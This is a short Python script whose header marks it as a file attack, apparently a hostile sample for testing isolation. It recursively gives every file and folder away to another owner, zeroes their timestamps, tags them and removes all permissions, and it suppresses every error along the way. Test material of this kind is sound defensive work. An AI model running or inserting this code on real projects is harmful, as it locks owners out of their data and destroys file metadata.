# Takes all permissions of the project away, and gives it to somebody else.
# attacks: files
# ends: clean
import contextlib, os

for folder, folders, files in os.walk(".", topdown=False):
    for name in files + folders:
        path = os.path.join(folder, name)
        if not os.path.islink(path):
            with contextlib.suppress(OSError):
                os.chown(path, 12345, 12345)
            with contextlib.suppress(OSError):
                os.utime(path, (0, 0))
            with contextlib.suppress(OSError):
                os.setxattr(path, "user.hostile", b"x")
            with contextlib.suppress(OSError):
                os.chmod(path, 0)
with contextlib.suppress(OSError):
    os.chmod(".", 0)
